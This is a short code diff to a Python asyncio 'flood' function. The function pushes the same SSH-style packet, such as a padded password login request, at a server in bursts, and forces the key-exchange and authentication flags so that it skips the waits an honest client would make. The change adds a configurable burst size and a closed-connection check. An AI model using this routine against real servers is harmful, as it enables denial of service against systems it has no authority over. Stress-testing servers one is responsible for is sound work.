@@ -79,7 +79,7 @@ def password(size: int) -> tuple[bytes, ...]:
     return login_request(b"password", Boolean(False), String(bytes(size)))
 
 
-async def flood(one: Any, kind: int, *fields: bytes, most: int) -> int:
+async def flood(one: Any, kind: int, *fields: bytes, most: int, at_once: int = 8) -> int:
     """Send the same packet until the connection ends, or that many bytes are sent; return their number.
 
     Keys that change meanwhile do not hold it up, as they would an honest client.
@@ -89,7 +89,9 @@ async def flood(one: Any, kind: int, *fields: bytes, most: int) -> int:
         if one._transport.get_write_buffer_size() > UNSENT:
             await asyncio.sleep(0.001)
             continue
-        for _ in range(8):
+        for _ in range(at_once):
+            if one._transport is None or one._transport.is_closing():
+                break
             one._kex_complete = one._auth_complete = True
             one.send_packet(kind, *fields)
             sent += sum(map(len, fields)) + 32
